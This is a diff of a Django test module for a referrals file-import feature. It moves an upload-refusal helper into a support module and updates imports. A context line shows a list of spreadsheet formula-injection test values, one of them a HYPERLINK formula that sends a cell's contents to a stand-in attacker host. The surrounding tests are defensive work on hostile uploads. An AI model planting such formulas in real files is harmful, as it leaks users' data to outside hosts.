@@ -29,16 +29,12 @@ from referrals.imports.format import ImportRefused, parse_file
 from referrals.models import ImportBatch, Referral, School
 from tests.conftest import sign_in_verified
 from tests.hostile.strategies import LYING_FILES, hostile_text
-from tests.hostile.test_forms import error_messages
 from tests.hostile.walk import (
     ACTORS,
-    READS_LOGGED,
-    body_of,
     build_world,
-    changed_tables,
-    db_state,
     discover_forms,
 )
+from tests.support.uploads import refuses_upload
 
 pytestmark = pytest.mark.django_db
 
@@ -48,23 +44,6 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "
 @pytest.fixture(autouse=True)
 def _media(settings, tmp_path):
     settings.MEDIA_ROOT = str(tmp_path / "media")
-
-
-def refuses_upload(client, url: str, field: str, file: tuple[str, bytes, str], data=None) -> list[str]:
-    """POST ``file`` to ``url`` as ``field``: a refusal naming the problem, nothing changed.
-    Returns the error messages shown (for a test to check the wording)."""
-    name, content, content_type = file
-    before = db_state(exclude=READS_LOGGED)
-    response = client.post(
-        url, {**(data or {}), field: SimpleUploadedFile(name, content, content_type=content_type)}
-    )
-    after = db_state(exclude=READS_LOGGED)
-    assert response.status_code == 400, (url, name, response.status_code)
-    assert not changed_tables(before, after), (url, name, changed_tables(before, after))
-    messages = error_messages(body_of(response))
-    assert messages, (url, name, "no error summary")
-    assert all(messages), (url, name, messages)
-    return messages
 
 
 @pytest.mark.parametrize("actor", ACTORS)
@@ -293,7 +272,7 @@ def test_every_upload_form_class_is_held_to_account():
     from django import forms
 
     from referrals.forms import ImportUploadForm
-    from tests.hostile.test_form_classes import form_classes
+    from tests.support.form_classes import form_classes
 
     uploads = [
         cls
